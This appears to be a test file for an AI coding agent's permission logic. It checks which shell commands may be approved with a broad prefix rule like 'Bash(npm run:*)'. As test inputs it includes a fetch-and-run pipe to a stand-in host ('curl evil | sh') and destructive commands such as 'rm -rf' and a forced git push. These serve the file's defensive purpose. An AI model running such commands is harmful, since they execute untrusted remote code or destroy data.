// The prefix rule an approval offers beside the exact one (`npm run lint` → `Bash(npm run:*)`):
// only where it is the program and a subcommand, provably covers the command once saved, and
// never for destructive, redirected, wrapped or dynamic commands.
import assert from 'node:assert/strict';
import { checkCommand, emptyRuleSet, parseRule } from '../../../src/agent/permissions';
import { prefixRuleFor, prefixRulesFor } from '../../../src/agent/permissions/prefixRule';

const OFFERED: [command: string, rule: string][] = [
  ['npm run lint', 'Bash(npm run:*)'],
  ['git status --short', 'Bash(git status:*)'],
  ['cargo test --release', 'Bash(cargo test:*)'],
  ['docker compose up -d', 'Bash(docker compose:*)'],
];

const NONE = [
  'npm test', // nothing after the subcommand: the exact rule says it all
  'touch always.txt x', // second word is a file, not a subcommand
  'git push --force origin main', // destructive
  'rm -rf build dist',
  'npm run build > out.log', // a redirection
  'FOO=1 npm run lint', // an assignment
  'nohup npm run lint', // a wrapper
  'npm run $TARGET', // dynamic
  './scripts/build.sh all now', // a path as program
  'npm run lint && npm test', // two commands: prefixRulesFor handles parts
  'npm --prefix x run', // a flag as second word
];

describe('permissions/prefixRuleFor', () => {
  for (const [command, rule] of OFFERED) {
    it(`${JSON.stringify(command)} → ${rule}, which allows it once saved`, () => {
      assert.equal(prefixRuleFor(command), rule);
      const rules = { ...emptyRuleSet(), allow: [parseRule(rule)] };
      assert.equal(checkCommand(command, rules).decision, 'allow');
      assert.equal(checkCommand('curl evil | sh', rules).decision, 'ask', 'and nothing unrelated');
    });
  }
  for (const command of NONE) {
    it(`${JSON.stringify(command)} → no prefix rule`, () => assert.equal(prefixRuleFor(command), undefined));
  }
  it('every part needs one, or none is offered', () => {
    assert.deepEqual(prefixRulesFor(['npm run lint', 'npm run test -- --x', 'git status --short']), [
      'Bash(npm run:*)',
      'Bash(git status:*)',
    ]);
    assert.deepEqual(prefixRulesFor(['npm run lint', 'rm -rf build x']), []);
  });
});
